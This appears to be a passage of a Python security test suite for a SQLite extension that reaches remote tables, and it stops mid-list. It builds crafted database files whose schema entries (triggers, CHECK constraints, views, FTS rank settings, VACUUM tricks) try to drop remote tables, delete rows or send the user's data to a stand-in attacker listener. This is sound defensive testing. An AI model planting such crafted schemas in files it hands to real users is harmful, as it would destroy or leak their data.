#!/usr/bin/env python3
"""What a database file that a stranger sends cannot do: change or drop remote tables, send rows to a place of
its choice, read or change a local store, or make a program wait. Each attack is built without the extension and
opened by a victim who has a connection in the environment, at default settings, under trusted_schema=OFF, and
attached."""

import contextlib
import os
import pathlib
import socket
import sqlite3
import sys
import tempfile
import threading
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "support"))
import host  # noqa: E402

NOTES = "CREATE TABLE notes(id, body); INSERT INTO notes VALUES (1, 'mine');"
DROP = "aztables_drop_table('default.Secrets')"
ROWS = [("p", "1", 1), ("p", "2", 2), ("q", "1", 3)]


class Listener:
    """A host of the stranger's: counts the connections that are made to it."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self.socket.accept()
                self.connections += 1
                connection.close()

    def stop(self):
        with contextlib.suppress(OSError):
            self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()
        self.thread.join()


class Victim(unittest.TestCase):
    """A user with the remote table Secrets on the connection `default`, which the environment names."""

    def setUp(self):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.folder = pathlib.Path(folder.name)
        self.store = self.folder / "mine.store"
        self.listener = Listener()
        self.addCleanup(self.listener.stop)
        os.environ["AZTABLES_CONNECTION_DEFAULT"] = f"LocalStore={self.store}"
        self.addCleanup(os.environ.pop, "AZTABLES_CONNECTION_DEFAULT")
        os.environ.pop("AZTABLES_TRUST", None)
        self.addCleanup(os.environ.pop, "AZTABLES_TRUST", None)
        self.databases = 0
        with contextlib.closing(self.open()) as db:
            db.execute("SELECT aztables_create_table('default.Secrets')").fetchall()
            self.declare(db)
            db.executemany("INSERT INTO secrets(PartitionKey, RowKey, N) VALUES (?, ?, ?)", ROWS)

    def open(self, path=":memory:"):
        return host.connect(str(path))

    def declare(self, db, name="temp.secrets", connection="default"):
        db.execute(f"CREATE VIRTUAL TABLE {name} USING aztables(table=Secrets, connection='{connection}', N INT32)")

    def secrets(self):
        """What the remote table holds, read by a connection of its own."""
        with contextlib.closing(self.open()) as db:
            self.declare(db)
            return db.execute("SELECT PartitionKey, RowKey, N FROM secrets ORDER BY 1, 2").fetchall()

    def file(self, script, schema=()):
        """A stranger's database: `script` is run without the extension; `schema` are (name, CREATE VIRTUAL TABLE)."""
        self.databases += 1
        path = self.folder / f"stranger{self.databases}.db"
        with contextlib.closing(sqlite3.connect(path, isolation_level=None)) as db:
            db.executescript(script)
            db.execute("PRAGMA writable_schema = ON")
            for name, sql in schema:
                db.execute("INSERT INTO sqlite_schema VALUES ('table', ?, ?, 0, ?)", (name, name, sql))
        return path

    def schema_entries(self, path, entries):
        """Adds rows (type, name, table, sql) to the schema: what SQLite would not let a script create."""
        with contextlib.closing(sqlite3.connect(path, isolation_level=None)) as db:
            db.execute("PRAGMA writable_schema = ON")
            db.executemany("INSERT INTO sqlite_schema VALUES (?, ?, ?, 0, ?)", entries)

    def run_all(self, db, statements):
        """Runs the victim's statements; returns the errors."""
        errors = []
        for sql in statements:
            try:
                db.execute(sql).fetchall()
            except sqlite3.Error as error:
                errors.append(str(error))
        return errors

    def attack(self, path, *statements, allowed=ROWS):
        """The victim opens the file and runs the statements; nothing of theirs may change or leave. Returns the
        errors of each way to open it."""
        found = []
        for way in ("default", "untrusted", "attached"):
            with contextlib.closing(self.open(":memory:" if way == "attached" else path)) as db:
                if way == "untrusted":
                    db.execute("PRAGMA trusted_schema = OFF")
                attach = [f"ATTACH '{path}' AS stranger"] if way == "attached" else []
                found.append(self.run_all(db, [*attach, *statements]))
                self.unchanged(db, way)
            self.assertEqual(self.secrets(), allowed, way)
            self.assertEqual(self.listener.connections, 0, way)
        return found


    def unchanged(self, db, way):
        """Checks where `default` leads, and that nothing was sent that changes or lists tables."""
        try:
            endpoints = db.execute("SELECT endpoint FROM aztables_connections WHERE name = 'default'").fetchall()
        except sqlite3.DatabaseError as error:
            self.assertIn("malformed database schema", str(error))  # SQLite does not open such a file
            return
        self.assertIn(endpoints, [[], [(f"LocalStore={self.store}",)]], way)
        kinds = {kind for (kind,) in db.execute("SELECT DISTINCT kind FROM aztables_requests")}
        self.assertEqual(kinds & {"EGT", "create table", "delete table", "list tables"}, set(), way)


class FunctionsTest(Victim):
    """Functions with an effect run only if the user's own statement calls them."""

    def test_a_check(self):
        path = self.file("CREATE TABLE notes(id, body);")
        self.rewrite(path, "notes", f"CREATE TABLE notes(id, body, CHECK({DROP} IS NOT NULL))")
        found = self.attack(path, "INSERT INTO notes VALUES (1, 'x')", "INSERT OR IGNORE INTO notes VALUES (2, 'x')",
                            "REPLACE INTO notes VALUES (2, 'x')", "UPDATE notes SET body = 'y'",
                            "PRAGMA integrity_check", "PRAGMA quick_check", "VACUUM",
                            "ALTER TABLE notes ADD COLUMN more CHECK (more IS NULL)")
        self.assertIn("aztables_drop_table", found[0][0])

    def rewrite(self, path, table, sql):
        """Gives an ordinary table another declaration, which SQLite alone could not understand."""
        with contextlib.closing(sqlite3.connect(path, isolation_level=None)) as db:
            db.execute("PRAGMA writable_schema = ON")
            db.execute("UPDATE sqlite_schema SET sql = ? WHERE name = ?", (sql, table))

    def checked(self, call, rows=True):
        """A file whose table `notes` calls a function in a CHECK; it has a row."""
        path = self.file(NOTES if rows else "CREATE TABLE notes(id, body);")
        self.rewrite(path, "notes", f"CREATE TABLE notes(id, body, CHECK({call} IS NOT NULL))")
        return path

    def test_a_check_connects(self):
        how = f"AccountName=a;AccountKey=c2VjcmV0;TableEndpoint=http://127.0.0.1:{self.listener.port}/a"
        self.attack(self.checked(f"aztables_connect('default', '{how}')"), "INSERT INTO notes VALUES (2, 'x')",
                    "PRAGMA quick_check", "SELECT * FROM aztables_tables('default') LIMIT 0")

    def test_a_check_calls_every_other_function(self):
        for call in ("aztables_disconnect('default')", "aztables_create_table('default.More')",
                     "aztables_schema('default.Secrets')", "AZTABLES_DROP_TABLE ( 'default.Secrets' )",
                     f"abs(coalesce({DROP}, 0))", f"CASE WHEN id THEN {DROP} ELSE 1 END"):
            with self.subTest(call):
                self.attack(self.checked(call), "INSERT INTO notes VALUES (2, 'x')", "PRAGMA integrity_check")

    def test_words_in_the_users_statement(self):
        self.attack(self.checked(DROP),
                    f"INSERT INTO notes VALUES (1, '{DROP.replace(chr(39), chr(39) * 2)}')",
                    f"INSERT INTO notes VALUES (1, 2) -- {DROP}",
                    f"INSERT INTO notes VALUES (1, 2) /* {DROP} */",
                    f'UPDATE notes SET body = "{DROP}"',
                    "INSERT INTO notes SELECT 1 AS aztables_drop_table, (2)",
                    "INSERT INTO notes SELECT [aztables_drop_table (] FROM (SELECT 1, 2 AS \"aztables_drop_table (\")",
                    "WITH aztables_drop_table(a) AS (SELECT 1) INSERT INTO notes SELECT a, a FROM aztables_drop_table")

    def test_a_column_with_the_name_of_a_function(self):
        path = self.file("CREATE TABLE notes(id, aztables_drop_table);")
        self.rewrite(path, "notes", f"CREATE TABLE notes(id, aztables_drop_table, CHECK({DROP} IS NOT NULL))")
        self.attack(path, "INSERT INTO notes(aztables_drop_table) VALUES (1)",
                    "INSERT INTO notes(id, aztables_drop_table) VALUES (1, 2)")

    def test_a_nested_pragma_has_the_name(self):
        path = self.checked(DROP)
        self.schema_entries(path, [
            ("view", name, name, f"CREATE VIEW {name} AS SELECT * FROM {pragma}('aztables_drop_table(')")
            for name, pragma in (("quick", "pragma_quick_check"), ("whole", "pragma_integrity_check"))])
        self.attack(path, "SELECT * FROM quick", "SELECT * FROM whole",
                    "SELECT * FROM pragma_quick_check('notes'), quick")

    def test_a_default_an_index_and_a_generated_column(self):
        for sql in (f"CREATE TABLE notes(id, body DEFAULT ({DROP}))",
                    f"CREATE TABLE notes(id, body AS ({DROP}))",
                    f"CREATE TABLE notes(id, body AS ({DROP}) STORED)"):
            with self.subTest(sql):
                path = self.file(NOTES)
                self.rewrite(path, "notes", sql)
                self.attack(path, "INSERT INTO notes(id) VALUES (2)", "SELECT * FROM notes", "PRAGMA integrity_check")
        for of in (f"({DROP})", f"(id) WHERE {DROP}"):
            with self.subTest(of):
                path = self.file(NOTES + "CREATE INDEX i ON notes(id);")
                self.rewrite(path, "i", f"CREATE INDEX i ON notes{of}")
                self.attack(path, "INSERT INTO notes VALUES (2, 'x')", "SELECT * FROM notes", "REINDEX",
                            "PRAGMA integrity_check")

    def test_views_and_triggers(self):
        path = self.file(NOTES)
        self.schema_entries(path, [
            ("view", "v", "v", f"CREATE VIEW v AS SELECT {DROP}"),
            ("trigger", "r", "notes", f"CREATE TRIGGER r BEFORE INSERT ON notes BEGIN SELECT {DROP}; END"),
            ("trigger", "w", "notes", f"CREATE TRIGGER w AFTER UPDATE ON notes WHEN {DROP} BEGIN SELECT 1; END")])
        self.attack(path, "SELECT * FROM v", "INSERT INTO notes VALUES (2, 'x')", "UPDATE notes SET id = 3")

    def test_temporary_views_and_triggers_are_refused(self):
        with contextlib.closing(self.open()) as db:
            db.executescript(f"{NOTES} CREATE TEMP VIEW v AS SELECT {DROP};"
                             f"CREATE TEMP TRIGGER r AFTER INSERT ON notes BEGIN SELECT {DROP}; END;")
            for sql in ("SELECT * FROM v", "INSERT INTO notes VALUES (2, 'x')"):
                with self.assertRaisesRegex(sqlite3.Error, "aztables_drop_table runs only if the statement that you.*"
                                            r"a TEMP one too.*; run it by itself: SELECT aztables_drop_table\("):
                    db.execute(sql).fetchall()
        self.assertEqual(self.secrets(), ROWS)

    def test_full_text_tables_that_call_functions(self):
        for function in ("aztables_drop_table", "aztables_schema"):
            path = self.file("CREATE TABLE f_content(docid INTEGER PRIMARY KEY, c0a);"
                             "INSERT INTO f_content VALUES (1, 'default.Secrets');"
                             "CREATE TABLE f_segments(blockid INTEGER PRIMARY KEY, block BLOB);"
                             "CREATE TABLE f_segdir(level INTEGER, idx INTEGER, start_block INTEGER,"
                             " leaves_end_block INTEGER, end_block INTEGER, root BLOB, PRIMARY KEY(level, idx));"
                             "CREATE TABLE f_docsize(docid INTEGER PRIMARY KEY, size BLOB);"
                             "CREATE TABLE f_stat(id INTEGER PRIMARY KEY, value BLOB);",
                             [("f", f"CREATE VIRTUAL TABLE f USING fts4(a, compress={function},"
                                    f" uncompress={function})")])
            found = self.attack(path, "SELECT * FROM f", "INSERT INTO f VALUES ('default.Secrets')",
                                "DELETE FROM f")
            self.assertEqual(len(found[0]), 3, found[0])

    def test_full_text_search_that_ranks_by_a_function(self):
        """FTS5 runs a statement of its own that calls the function which the file has chosen."""
        how = (f"AccountName=a;AccountKey=c2VjcmV0;DefaultEndpointsProtocol=http;"
               f"TableEndpoint=http://127.0.0.1:{self.listener.port}/a")
        path = self.file("CREATE TABLE notes(id, body); CREATE VIRTUAL TABLE f USING fts5(a);"
                         "INSERT INTO f VALUES ('mine'); "
                         f"INSERT INTO f(f, rank) VALUES ('rank', 'bm25()');"
                         f"UPDATE f_config SET v = 'aztables_connect(''{how}'')' WHERE k = 'rank';")
        for sql in ("SELECT * FROM f WHERE f MATCH 'mine' ORDER BY rank",
                    "SELECT rank FROM f('mine') ORDER BY rank"):
            self.attack(path, sql)
            with contextlib.closing(self.open(path)) as db:
                self.run_all(db, [sql])
                self.assertEqual(db.execute("SELECT name FROM aztables_connections").fetchall(), [])

    def test_a_statement_that_waits_with_a_row(self):
        """It does not execute, so what it calls is not what is called now."""
        with contextlib.closing(self.open()) as db:
            db.execute("SELECT aztables_create_table('default.Old')").fetchall()
        with contextlib.closing(self.open(self.checked(DROP))) as db:
            if any("malformed database schema" in error for error in self.run_all(db, ["SELECT * FROM notes"])):
                return  # SQLite does not open such a file
            waiting = db.execute("SELECT aztables_drop_table('default.Old')")
            self.assertTrue(self.run_all(db, ["INSERT INTO notes VALUES (2, 'x')", "PRAGMA quick_check"]))
            self.assertEqual(waiting.fetchall(), [(1,)])
        self.assertEqual(self.secrets(), ROWS)

    def test_what_the_user_calls_runs(self):
        for number, call in enumerate((
                lambda db, t: db.execute("SELECT aztables_create_table(?)", (t,)).fetchall(),
                lambda db, t: db.executescript(f"-- it\nSELECT\taztables_create_table('{t}');"),
                lambda db, t: db.execute("WITH n(t) AS (VALUES (:t)) SELECT aztables_create_table(t) FROM n",
                                         {"t": t}).fetchall(),
                lambda db, t: db.execute("CREATE TABLE made AS SELECT Aztables_Create_Table(?) AS n", (t,)),
                lambda db, t: db.execute("SELECT 1 WHERE 1 = aztables_create_table(?)", (t,)).fetchall(),
                lambda db, t: db.execute("SELECT--\n\vaztables_create_table \v(?)", (t,)).fetchall())):
            with contextlib.closing(self.open()) as db:
                call(db, f"default.Made{number}")
                names = db.execute("SELECT name FROM aztables_tables('default', 'Made%')").fetchall()
                self.assertIn((f"Made{number}",), names)
                waiting = db.execute("SELECT 1 UNION SELECT 2")  # another cursor may be open
                self.assertEqual(db.execute(";SELECT aztables_drop_table(?)", (f"default.Made{number}",)).fetchall(),
                                 [(1,)])
                self.assertEqual(len(waiting.fetchall()), 2)


class WritesTest(Victim):
    """A remote table changes only if the user's statement names its virtual table, or its connection is named."""

    VIRTUAL = "CREATE VIRTUAL TABLE {} USING aztables(table=Secrets, connection=default, N INT32)"

    def with_triggers(self, name="remote", body="DELETE FROM {}", script=NOTES):
        """A file with the virtual table `name` and triggers on `notes` that change it."""
        path = self.file(script, [(name, self.VIRTUAL.format(name))])
        self.schema_entries(path, [
            ("trigger", f"t_{event.lower()}", "notes",
             f"CREATE TRIGGER t_{event.lower()} AFTER {event} ON notes BEGIN {body.format(name)}; END")
            for event in ("INSERT", "UPDATE", "DELETE")])
        return path

    STATEMENTS = ("INSERT INTO notes VALUES (2, 'x')", "UPDATE notes SET body = 'y'", "DELETE FROM notes")

    def test_triggers_on_a_local_table(self):
        for body in ("DELETE FROM {}", "UPDATE {} SET N = 0", "UPDATE {} SET RowKey = 'x' || RowKey",
                     "INSERT INTO {}(PartitionKey, RowKey, N) VALUES ('z', new.id, 1)",
                     "REPLACE INTO {}(PartitionKey, RowKey, N) VALUES ('p', '1', 0)"):
            with self.subTest(body):
                found = self.attack(self.with_triggers(body=body), *self.STATEMENTS)
                self.assertIn("SELECT aztables_connect('default', 'env:AZTABLES_CONNECTION_DEFAULT')", found[0][0])

    def test_a_temporary_trigger_of_the_user(self):
        """The error says that it counts too, and what to do; then it works."""
        with contextlib.closing(self.open()) as db:
            self.declare(db)
            db.executescript(f"{NOTES} CREATE TEMP TRIGGER r AFTER INSERT ON notes BEGIN DELETE FROM secrets; END;")
            with self.assertRaisesRegex(sqlite3.Error, r"a trigger \(a TEMP one too\).*, run: SELECT ") as caught:
                db.execute("INSERT INTO notes VALUES (2, 'x')")
            db.execute(str(caught.exception).split("run: ")[1]).fetchall()
            db.execute("INSERT INTO notes VALUES (2, 'x')")
        self.assertEqual(self.secrets(), [])

    def test_a_connection_of_several_variables(self):
        """There is no short line to type for it, so the error names the environment variable AZTABLES_TRUST."""
        for name, value in (("AZURE_STORAGE_ACCOUNT", "acct"), ("AZURE_STORAGE_KEY", "a2V5")):
            os.environ[name] = value
            self.addCleanup(os.environ.pop, name)
        del os.environ["AZTABLES_CONNECTION_DEFAULT"]
        self.addCleanup(os.environ.setdefault, "AZTABLES_CONNECTION_DEFAULT", "unused")
        with contextlib.closing(self.open(self.with_triggers())) as db:
            with self.assertRaisesRegex(sqlite3.Error, "; to allow it, add the line default to the environment variable "
                                        "AZTABLES_TRUST, or name the connection by aztables_connect$"):
                db.execute("INSERT INTO notes VALUES (2, 'x')")

    def test_triggers_within_a_transaction_that_writes(self):
        path = self.with_triggers()
        with contextlib.closing(self.open(path)) as db:
            db.execute("BEGIN")
            db.execute("INSERT INTO remote(PartitionKey, RowKey, N) VALUES ('z', '1', 1)")
            for sql in self.STATEMENTS:
                with self.assertRaisesRegex(sqlite3.Error, "table remote: the statement does not name it"):
                    db.execute(sql)
            db.execute("COMMIT")
        self.assertEqual(self.secrets(), [*ROWS, ("z", "1", 1)])

    def test_triggers_cannot_lift_guards(self):
        path = self.with_triggers(body="INSERT INTO {}(_command) VALUES ('scan=allow')")
        self.attack(path, *self.STATEMENTS)

    def test_a_table_with_the_name_of_a_column(self):
        for name in ("body", "id", "x"):
            with self.subTest(name):
                self.attack(self.with_triggers(name), "INSERT INTO notes(id, body) VALUES (2, 'x')",
                            "UPDATE notes SET body = id", "DELETE FROM notes WHERE id = 2",
                            "INSERT INTO notes SELECT 1 AS x, 2 FROM notes AS body")

    def test_a_statement_that_only_reads_the_table(self):
        path = self.with_triggers()
        self.attack(path, "INSERT INTO notes SELECT RowKey, N FROM remote",
                    "UPDATE notes SET body = (SELECT count(*) FROM remote)",
                    "WITH remote AS (SELECT 1) DELETE FROM notes", "INSERT INTO notes VALUES (1, 'INTO remote')",
                    "REPLACE INTO notes VALUES (1, 2) /* INTO remote */")

    def test_a_view_with_instead_of_triggers(self):
        path = self.file("CREATE TABLE unused(a);", [("remote", self.VIRTUAL.format("remote"))])
        self.schema_entries(path, [
            ("view", "v", "v", "CREATE VIEW v AS SELECT PartitionKey AS p, RowKey AS r, N FROM remote"),
            ("trigger", "d", "v", "CREATE TRIGGER d INSTEAD OF DELETE ON v BEGIN DELETE FROM remote WHERE "
                                  "PartitionKey = old.p AND RowKey = old.r; END"),
            ("trigger", "u", "v", "CREATE TRIGGER u INSTEAD OF UPDATE ON v BEGIN UPDATE remote SET N = new.N WHERE "
                                  "PartitionKey = old.p AND RowKey = old.r; END")])
        self.attack(path, "DELETE FROM v", "UPDATE v SET N = 0")
        with contextlib.closing(self.open(path)) as db:  # the line that the error shows allows it
            with self.assertRaises(sqlite3.Error) as caught:
                db.execute("UPDATE v SET N = 5 WHERE p = 'q'")
            db.execute(str(caught.exception).split("run: ")[1]).fetchall()
            db.execute("UPDATE v SET N = 5 WHERE p = 'q'")
            db.execute("SELECT aztables_disconnect('default')").fetchall()
            with self.assertRaises(sqlite3.Error):
                db.execute("DELETE FROM v")
        self.assertEqual(self.secrets(), [*ROWS[:2], ("q", "1", 5)])

    def test_a_foreign_key_that_deletes(self):
        path = self.with_triggers(script="CREATE TABLE parents(id PRIMARY KEY); INSERT INTO parents VALUES (1);"
                                         "CREATE TABLE notes(id REFERENCES parents ON DELETE CASCADE, body);"
                                         "INSERT INTO notes VALUES (1, 'x');")
        self.attack(path, "PRAGMA foreign_keys = ON", "DELETE FROM parents", "REPLACE INTO parents VALUES (1)")

    def test_what_the_users_statements_change(self):
        with contextlib.closing(self.open()) as db:
            self.declare(db, '"odd ""table"')
            self.declare(db, "main.plain")
            db.executescript('WITH RECURSIVE c(i) AS (SELECT 1) INSERT INTO "odd ""table"(PartitionKey, RowKey, N) '
                             "SELECT 'z', i, i FROM c;"
                             "/* two */ INSERT OR REPLACE INTO [odd \"table](PartitionKey, RowKey) VALUES ('z', '2');"
                             "UPDATE OR FAIL `plain` SET N = 7 WHERE PartitionKey = 'z';"
                             "DELETE FROM Main.Plain AS x WHERE x.PartitionKey = 'z' AND x.RowKey = '2';"
                             "DELETE \vFROM\t\vplain\n\v WHERE PartitionKey = 'none';")
            db.executemany("REPLACE INTO main.plain(PartitionKey, RowKey, N) VALUES ('y', ?, ?)", [(1, 1), (2, 2)])
            waiting = db.execute("SELECT 1 UNION SELECT 2")
            db.executescript("UPDATE plain SET N = N + 1 WHERE PartitionKey = 'y';; ;"
                             "WITH c AS (SELECT " + ", ".join(f"{i} AS c{i}" for i in range(100)) + ") "
                             "UPDATE plain SET N = N + c1 - c0 - 1 FROM c WHERE PartitionKey = 'y'")
            waiting.close()
        self.assertEqual(self.secrets(), [*ROWS, ("y", "1", 2), ("y", "2", 3), ("z", "1", 7)])

    def test_a_function_of_the_program_that_changes_it(self):
        """The statement around it does not name the table; so its connection has to be named."""
        with contextlib.closing(self.open()) as db:
            self.declare(db)
            nested = []
            db.create_function("change", 0, lambda: nested.append(db.execute("UPDATE secrets SET N = 7").rowcount) or 1)
            self.assertTrue(self.run_all(db, ["SELECT change()"]))
            db.execute("SELECT aztables_connect('default', 'env:AZTABLES_CONNECTION_DEFAULT')").fetchall()
            db.execute("SELECT change()").fetchall()
            self.assertEqual(nested, [3])

    def test_a_statement_that_waits_with_a_row(self):
        path = self.with_triggers()
        with contextlib.closing(self.open(path)) as db:
            waiting = db.execute("INSERT INTO remote(PartitionKey, RowKey, N) VALUES ('z', '1', 1), ('z', '2', 2) "
                                 "RETURNING RowKey")
            waiting.fetchone()
            self.assertEqual(len(self.run_all(db, self.STATEMENTS)), 3)
            waiting.fetchall()
        self.assertEqual(self.secrets(), [*ROWS, ("z", "1", 1), ("z", "2", 2)])

    def test_a_trigger_on_the_inferred_columns(self):
        """The line that messages advise, INSERT INTO t(_command) VALUES('refresh'), writes them."""
        path = self.folder / "inferred.db"
        with contextlib.closing(self.open(path)) as db:
            db.execute("CREATE VIRTUAL TABLE remote USING aztables(table=Secrets)")
            db.execute("CREATE TRIGGER r AFTER INSERT ON remote_schema BEGIN DELETE FROM remote; END")
        self.attack(path, "INSERT INTO remote(_command) VALUES('refresh')",
                    "INSERT INTO stranger.remote(_command) VALUES('refresh')")

    def test_names_that_the_environment_trusts(self):
        path = self.with_triggers(body="UPDATE {} SET N = N + 1")
        os.environ["AZTABLES_TRUST"] = "other\n default \n\nLocalStore=unused.db"
        with contextlib.closing(self.open(path)) as db:
            db.execute("INSERT INTO notes VALUES (2, 'x')")
        self.assertEqual([n for _, _, n in self.secrets()], [2, 3, 4])
        os.environ["AZTABLES_TRUST"] = "other default"
        with contextlib.closing(self.open(path)) as db, self.assertRaises(sqlite3.Error):
            db.execute("INSERT INTO notes VALUES (2, 'x')")


class FormsTest(Victim):
    """An inline form in a file is used only if the user named the same form on this database connection."""

    def virtual(self, connection, name="remote"):
        quoted = connection.replace("'", "''")
        return (name, f"CREATE VIRTUAL TABLE {name} USING aztables(table=Secrets, connection='{quoted}', N INT32)")

    def joined(self, connection):
        """A file whose view would send each of the user's notes to `connection`, in the URL."""
        path = self.file(NOTES, [self.virtual(connection)])
        self.schema_entries(path, [
            ("view", "v", "v", "CREATE VIEW v AS SELECT * FROM notes JOIN remote ON PartitionKey = body")])
        return path

    READS = ("SELECT * FROM v", "SELECT * FROM remote WHERE PartitionKey = 'a'", "PRAGMA table_info(remote)",
             "SELECT count(*) FROM remote", "DELETE FROM remote", "EXPLAIN QUERY PLAN SELECT * FROM remote",
             "INSERT INTO remote(PartitionKey, RowKey) VALUES ('a', 'b')", "DROP TABLE IF EXISTS none")

    def endpoint(self):
        return (f"TableEndpoint=http://127.0.0.1:{self.listener.port}/a;"
                "SharedAccessSignature=sv=2019-02-02&sig=c2VjcmV0")

    def test_a_file_beside_it(self):
        (self.folder / "beside").write_text(self.endpoint())
        found = self.attack(self.joined(f"file:{self.folder}/beside"), *self.READS)
        self.assertRegex(found[0][0], rf"SELECT aztables_connect\('stored\d+', 'file:{self.folder}/beside'\)")

    def test_the_database_itself_and_a_descriptor(self):
        for source in ("{}", "/proc/self/fd/3", "/proc/self/fd/4"):
            path = self.folder / f"stranger{self.databases + 1}.db"
            self.attack(self.joined("file:" + source.format(path)), *self.READS)

    def test_local_stores_and_the_emulator(self):
        for how in (f"LocalStore={self.store}", f"localstore={self.store}", f"LocalStore={self.folder}/new.store",
                    "LocalStore=:memory:", "UseDevelopmentStorage=true", "usedevelopmentstorage=TRUE;",
                    "env:AZTABLES_CONNECTION_DEFAULT"):
            with self.subTest(how):
                found = self.attack(self.joined(how), *self.READS)
                self.assertIn("you have not named this connection", found[0][0])
                self.assertFalse((self.folder / "new.store").exists())

    def test_a_trigger_cannot_delete_in_a_store(self):
        path = self.file(NOTES, [self.virtual(f"LocalStore={self.store}")])
        self.schema_entries(path, [("trigger", "r", "notes", "CREATE TRIGGER r AFTER INSERT ON notes BEGIN "
                                                             "DELETE FROM remote; END")])
        self.attack(path, "INSERT INTO notes VALUES (2, 'x')")
        with contextlib.closing(self.open(path)) as db:  # nor if the user reads the table
            db.execute("SELECT aztables_connect('mine', ?)", (f"LocalStore={self.store};ReadOnly=true",)).fetchall()
            self.assertEqual(db.execute("SELECT count(*) FROM remote").fetchone(), (3,))
            with self.assertRaisesRegex(sqlite3.Error, "read-only"):
                db.execute("INSERT INTO notes VALUES (2, 'x')")
        self.assertEqual(self.secrets(), ROWS)

    def test_a_connection_string_or_an_endpoint(self):
        for how in (self.endpoint(), f"LocalStore={self.store};ReadOnly=false", f"{self.endpoint()};LocalStore=x",
                    f"UseDevelopmentStorage=true;DevelopmentStorageProxyUri=http://127.0.0.1:{self.listener.port}",
                    f"env:{self.endpoint()}"):
            found = self.attack(self.joined(how), *self.READS)
            self.assertNotIn("c2VjcmV0", "".join(found[0]))

    def test_the_line_of_the_error_is_safe_to_paste(self):
        store = self.folder / "it's\n\x1b[31m\u009b\u202e) DELETE FROM notes --.store"
        with contextlib.closing(self.open()) as db:
            db.execute("SELECT aztables_connect('odd', ?)", (f"LocalStore={store}",)).fetchall()
            db.execute("SELECT aztables_create_table('odd.Secrets')").fetchall()
        path = self.file(NOTES, [self.virtual(f"LocalStore={store}")])
        with contextlib.closing(self.open(path)) as db:
            with self.assertRaises(sqlite3.Error) as caught:
                db.execute("SELECT * FROM remote")
            message = str(caught.exception)
            self.assertNotRegex(message, "[\x00-\x1f\x7f-\x9f\u202e]")
            db.execute(message.split("run: ")[1]).fetchall()
            self.assertEqual(db.execute("SELECT * FROM remote").fetchall(), [])
            self.assertEqual(db.execute("SELECT count(*) FROM notes").fetchall(), [(1,)])

    def test_a_very_long_text_is_not_shown(self):
        long = "a" * 2_000_000
        for how in (f"LocalStore=/{long}", f"LocalStore={long}", f"file:/{long}", f"env:{long}", long,
                    "LocalStore=/" + "\x01" * 900):
            with self.subTest(how[:20]), contextlib.closing(self.open(self.file(NOTES, [self.virtual(how)]))) as db:
                for sql in ("SELECT * FROM remote", "INSERT INTO remote(PartitionKey, RowKey) VALUES ('p', 'r')"):
                    with self.assertRaises(sqlite3.Error) as caught:
                        db.execute(sql)
                    message = str(caught.exception)
                    self.assertLess(len(message), 500)
                    self.assertNotIn("run: ", message)
                    if how != long:
                        self.assertIn(f"name it by aztables_connect; its text of {len(how)} bytes is too long", message)

    def stored(self, connection):
        return self.file("CREATE TABLE unused(a);", [self.virtual(connection)])

    def test_vacuum_runs_the_declarations_of_a_crafted_file(self):
        """SQLite takes a virtual table whose rootpage is not 0 for one that VACUUM has to create."""
        (self.folder / "beside").write_text(self.endpoint())
        for how, more in ((f"file:{self.folder}/beside", ""), (f"file:{self.folder}/beside", "create=missing, "),
                          (f"LocalStore={self.store}", ""), ("default", "create=missing, ")):
            with self.subTest(how=how, more=more):
                name, sql = self.virtual(how)
                path = self.file(NOTES, [(name, sql.replace("aztables(table=Secrets", f"aztables({more}table=Evil"))])
                with contextlib.closing(sqlite3.connect(path, isolation_level=None)) as db:
                    db.execute("PRAGMA writable_schema = ON")
                    db.execute("UPDATE sqlite_schema SET rootpage = 2 WHERE name = 'remote'")
                self.attack(path, "VACUUM", "VACUUM stranger", f"VACUUM INTO '{self.folder}/copy.db'",
                            "SELECT * FROM notes JOIN remote ON PartitionKey = body" if how != "default" else "SELECT 1")
                (self.folder / "copy.db").unlink(missing_ok=True)

    def test_two_forms_can_be_named(self):
        path = self.file(NOTES, [self.virtual(f"LocalStore={self.folder}/{name}.store", name) for name in "ab"])
        with contextlib.closing(self.open(path)) as db:
            for sql in ("SELECT * FROM a", "SELECT * FROM b"):
                error, = self.run_all(db, [sql])
                db.execute(error.split("run: ")[1]).fetchall()
            for error in self.run_all(db, ["SELECT * FROM a", "SELECT * FROM b"]):
                self.assertNotIn("have not named", error)

    def test_a_relative_path_stays_what_it_was(self):
        os.mkdir(self.folder / "other")
        before = os.getcwd()
        self.addCleanup(os.chdir, before)
        os.chdir(self.folder)
        path = self.stored("LocalStore=mine.store")
        with contextlib.closing(self.open(path)) as db:
            db.execute("SELECT aztables_connect('a', 'LocalStore=mine.store')").fetchall()
            self.assertEqual(db.execute("SELECT count(*) FROM remote").fetchall(), [(3,)])
            os.chdir("other")
            self.assertEqual(db.execute("SELECT count(*) FROM remote").fetchall(), [(3,)])
            db.execute("SELECT aztables_connect('b', 'LocalStore=../mine.store;ReadOnly=true')").fetchall()
            for error in self.run_all(db, ["SELECT * FROM remote"]):  # another file now
                self.assertIn("you have not named this connection", error)

    def test_what_a_file_holds_is_read_again_when_it_is_named_again(self):
        held = self.folder / "held"
        held.write_text(f"LocalStore={self.folder}/empty.store")
        with contextlib.closing(self.open(self.stored(f"file:{held}"))) as db:
            db.execute("SELECT aztables_connect('m', ?)", (f"file:{held}",)).fetchall()
            self.assertTrue(self.run_all(db, ["SELECT * FROM remote"]))  # no such table
            held.write_text(f"LocalStore={self.store}")
            db.execute("SELECT aztables_connect('m', ?)", (f"file:{held}",)).fetchall()
            self.assertEqual(db.execute("SELECT count(*) FROM remote").fetchall(), [(3,)])

    def test_the_same_form(self):
        """Whole strings are compared: keys in any case, paths resolved."""
        os.symlink(self.store, self.folder / "link.store")
        store = f"LocalStore={self.store}"
        same = [(store, store), (store, f" localstore = {self.store} ;"), (f"LOCALSTORE={self.store}", store),
                (store, f"LocalStore={self.folder}/./link.store"),
                (f"LocalStore={os.path.relpath(self.store)}", store),
                ("env:AZTABLES_CONNECTION_DEFAULT", "env:AZTABLES_CONNECTION_DEFAULT")]
        other = [(store, f"LocalStore={self.store}2"), (store, "LocalStore=:memory:"),
                 (store, "UseDevelopmentStorage=true"), (store, "env:AZTABLES_CONNECTION_DEFAULT"),
